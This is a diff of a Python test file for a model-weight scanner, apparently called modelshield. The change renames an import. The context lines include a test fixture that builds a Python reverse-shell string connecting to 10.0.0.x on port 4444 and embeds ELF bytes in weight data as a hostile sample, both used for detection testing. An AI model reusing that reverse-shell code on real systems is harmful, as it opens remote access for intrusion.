@@ -13,7 +13,7 @@ from safetensors.numpy import save_file
 from tests.samples.safetensors_samples import elf_bytes
 
 import modelshield
-from modelshield.analysis.weights import analyse_tensor
+from modelshield.analysis.weight_stats import analyse_tensor
 
 SCRIPT = b"".join(
     f"import socket,subprocess;s=socket.socket();s.connect(('10.0.0.{i % 250}',4444));"
@@ -157,7 +157,7 @@ def test_unsigned_text_payload_is_an_anomaly_of_medium_confidence(tmp_path: Path
 
 
 def test_signature_split_across_chunks_is_found() -> None:
-    from modelshield.analysis import weights
+    from modelshield.analysis import weight_stats as weights
 
     n = weights.CHUNK_BYTES // 4 + 1024
     hostile = embed_low_byte(normal_weights(n), elf_bytes(), at=weights.CHUNK_BYTES // 4 - 2)
